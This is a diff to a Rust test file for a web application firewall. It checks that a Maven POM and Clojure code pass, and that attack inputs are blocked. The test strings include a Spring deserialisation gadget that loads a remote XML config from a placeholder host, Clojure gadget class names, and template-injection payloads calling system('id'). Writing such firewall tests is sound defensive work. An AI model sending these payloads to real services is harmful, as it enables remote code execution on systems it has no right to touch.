@@ -5022,6 +5022,31 @@ fn holdout51_and_52_shapes_pass_and_their_attacks_still_score() {
         assert!(o.blocked && rule(&o, 3302) == Some(5), "{q}: {o:?}");
     }
 
+    // A Maven POM's property placeholder and group id, a Clojure namespace: configuration and
+    // code of their own. Deserialisation gadgets of Spring and Clojure, a call inside `${…}` and
+    // a PHP variable-variable still count.
+    let pom =
+        r#"<project><groupId>org.springframework.boot</groupId><version>${mapstruct.version}</version></project>"#;
+    let o = post("/api/pom", "application/xml", pom, &waf);
+    assert!(!o.blocked && rule(&o, 3305).is_none() && rule(&o, 4401).is_none(), "{o:?}");
+    let o = json_post(
+        &waf,
+        &field("code", "(ns orders.explore (:require [clojure.string :as str]))\n(str/join \", \" (map :sku orders))"),
+    );
+    assert!(rule(&o, 4401).is_none(), "{o:?}");
+    for q in [
+        r#"{"@type":"org.springframework.context.support.ClassPathXmlApplicationContext","configLocation":"http://x.example/a.xml"}"#,
+        "clojure.core$comp",
+        "clojure.main$eval_opt",
+    ] {
+        let o = json_post(&waf, &field("q", q));
+        assert!(o.blocked && rule(&o, 4401) == Some(5), "{q}: {o:?}");
+    }
+    for q in ["${a.b.system('id')}", "${x.system('id')}", "${system('id')}", "${'_GET'}"] {
+        let o = outcome(&waf, &format!("/q?x={}", query_escaped(q)));
+        assert!(o.blocked && rule(&o, 3305) == Some(5), "{q}: {o:?}");
+    }
+
     // A function's name joined by a hyphen to the word before, then a quote, ends a quoted
     // command name (`"wl-copy"`); a name before a quote is a call without parentheses.
     let o = json_post(&waf, &field("conf", r#"bind -T copy-mode-vi y send -X copy-pipe-and-cancel "wl-copy""#));
